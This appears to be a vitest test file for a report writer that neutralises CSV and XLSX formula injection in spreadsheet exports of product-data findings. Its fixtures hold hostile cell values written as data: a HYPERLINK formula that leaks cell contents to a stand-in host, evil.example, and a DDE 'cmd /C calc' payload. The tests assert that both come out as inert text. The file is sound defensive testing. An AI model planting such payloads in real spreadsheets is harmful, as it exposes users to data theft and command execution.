import { parse } from "csv-parse/sync";
import * as XLSX from "xlsx";
import { describe, expect, it } from "vitest";

import { REPORT_COLUMNS, neutralizeCell, readWorkbook, writeReport } from "@/lib/files/sheets";
import type { Finding } from "@/lib/files/types";

const finding = (over: Partial<Finding> = {}): Finding => ({
  sheet: "Events",
  row: 7,
  column: "GTIN",
  code: "invalid_gtin",
  severity: "error",
  message: "Check digit is 2, expected 1 (GS1 General Specifications 7.9.1)",
  value: "04012345678902",
  ...over,
});

/** Findings whose every text field starts with one of OWASP's dangerous characters. */
const HOSTILE: Finding[] = [
  finding({ value: '=HYPERLINK("http://evil.example/?"&A1,"click")' }),
  finding({ value: "+1+1", message: "-2+3", column: "@SUM(A1)", sheet: "=Sheet" }),
  finding({ value: "@cmd", message: "\tTab first" }),
  finding({ value: "\r=1+1", column: "-col" }),
  finding({ value: "-12", column: null }),
  finding({ value: null, code: "=code" }),
];

describe("neutralizeCell (OWASP CSV injection)", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["04012345678901", "04012345678901"],
    ["a=b", "a=b"],
    ["", ""],
  ])("%j → %j", (input, out) => {
    expect(neutralizeCell(input)).toBe(out);
  });
});

describe("writeReport csv", () => {
  it("starts with a UTF-8 BOM, has the columns, and reads back exactly (quotes, commas, line breaks, umlauts)", () => {
    const tricky = finding({ message: 'Lot "A,1" from Müller\nsecond line', value: "Café; 1,5" });
    const bytes = writeReport([finding(), tricky], "csv");
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const csvText = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
    expect(csvText.split("\r\n")[0]).toBe('\uFEFF"Sheet","Row","Column","Code","Severity","Message","Value"');
    const rows = parse(bytes, { bom: true }) as string[][];
    expect(rows[0]).toEqual([...REPORT_COLUMNS]);
    expect(rows[1]).toEqual(["Events", "7", "GTIN", "invalid_gtin", "error", finding().message, "04012345678902"]);
    expect(rows[2]).toEqual(["Events", "7", "GTIN", "invalid_gtin", "error", 'Lot "A,1" from Müller\nsecond line', "Café; 1,5"]);
  });

  it("no field of the CSV starts with = + - @ tab or CR: sheet, column, code, message and value are neutralised", () => {
    const rows = parse(writeReport(HOSTILE, "csv"), { bom: true }) as string[][];
    const cells = rows.slice(1).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(rows[1][6]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(rows[2].slice(0, 7)).toEqual(["'=Sheet", "7", "'@SUM(A1)", "invalid_gtin", "error", "'-2+3", "'+1+1"]);
    expect(rows[3][5]).toBe("'\tTab first");
    expect(rows[4][6]).toBe("'\r=1+1");
    expect(rows[5][2]).toBe("");
    expect(rows[6][3]).toBe("'=code");
  });
});

describe("writeReport xlsx", () => {
  it("a Findings sheet with the columns, and a Summary sheet when a summary is given", async () => {
    const bytes = writeReport([finding(), finding({ row: 9, severity: "warning" })], "xlsx", { summary: { rows: 120, valid: 118, "=label": "=value" } });
    const wb = XLSX.read(bytes, { type: "array" });
    expect(wb.SheetNames).toEqual(["Findings", "Summary"]);
    const findings = XLSX.utils.sheet_to_json<unknown[]>(wb.Sheets.Findings, { header: 1 });
    expect(findings).toEqual([[...REPORT_COLUMNS], ["Events", 7, "GTIN", "invalid_gtin", "error", finding().message, "04012345678902"], ["Events", 9, "GTIN", "invalid_gtin", "warning", finding().message, "04012345678902"]]);
    const summary = XLSX.utils.sheet_to_json<unknown[]>(wb.Sheets.Summary, { header: 1 });
    expect(summary).toEqual([["Item", "Value"], ["rows", 120], ["valid", 118], ["'=label", "'=value"]]);
    // The report reads back through the reader, too.
    const parsed = await readWorkbook(bytes, { filename: "report.xlsx" });
    expect(parsed.sheets[0].headers).toEqual([...REPORT_COLUMNS]);
    expect(parsed.sheets[0].rows[1]).toEqual({ row: 3, values: ["Events", "9", "GTIN", "invalid_gtin", "warning", finding().message, "04012345678902"] });
  });

  it("no summary, no Summary sheet", () => {
    expect(XLSX.read(writeReport([finding()], "xlsx"), { type: "array" }).SheetNames).toEqual(["Findings"]);
  });

  it("hostile texts are string cells with a leading ', never formulas", () => {
    const bytes = writeReport(HOSTILE, "xlsx", { summary: { "=cmd": "-1" } });
    const wb = XLSX.read(bytes, { type: "array", cellFormula: true, dense: true });
    for (const name of wb.SheetNames) {
      const data = (wb.Sheets[name] as unknown as { "!data": XLSX.CellObject[][] })["!data"];
      for (const row of data) {
        for (const cell of row ?? []) {
          if (!cell) continue;
          expect(cell.f).toBeUndefined();
          if (cell.t !== "n") {
            expect(cell.t).toBe("s");
            expect(String(cell.v)).not.toMatch(/^[=+\-@\t\r]/);
          }
        }
      }
    }
    const findings = XLSX.utils.sheet_to_json<unknown[]>(wb.Sheets.Findings, { header: 1 });
    expect(findings[1][6]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    // The raw sheet XML has no <f> element at all.
    const xml = new TextDecoder().decode(XLSX.CFB.find(XLSX.CFB.read(bytes, { type: "array" }), "xl/worksheets/sheet1.xml")?.content as Uint8Array);
    expect(xml).not.toMatch(/<f[ >]/);
  });
});

describe("writeReport at volume", () => {
  it("100,000 findings in both formats", () => {
    const many = Array.from({ length: 100_000 }, (_, i) =>
      finding({ row: i + 2, value: i % 10 === 0 ? `=cmd|' /C calc'!A${i}` : String(4012345678901 + i).padStart(14, "0"), code: i % 3 ? "invalid_gtin" : "duplicate_serial" }),
    );
    let t = performance.now();
    const csv = writeReport(many, "csv");
    const csvMs = performance.now() - t;
    t = performance.now();
    const xlsx = writeReport(many, "xlsx", { summary: { rows: 100_000 } });
    const xlsxMs = performance.now() - t;
    console.info(`writeReport 100,000 findings: csv ${csvMs.toFixed(0)} ms (${(csv.length / 1e6).toFixed(1)} MB), xlsx ${xlsxMs.toFixed(0)} ms (${(xlsx.length / 1e6).toFixed(1)} MB)`);
    const rows = parse(csv, { bom: true }) as string[][];
    expect(rows).toHaveLength(100_001);
    expect(rows[1][6]).toBe(`'=cmd|' /C calc'!A0`);
    const wb = XLSX.read(xlsx, { type: "array", dense: true, sheetRows: 3 });
    expect(XLSX.utils.sheet_to_json<unknown[]>(wb.Sheets.Findings, { header: 1 })[1]).toEqual(["Events", 2, "GTIN", "duplicate_serial", "error", finding().message, `'=cmd|' /C calc'!A0`]);
  });
});
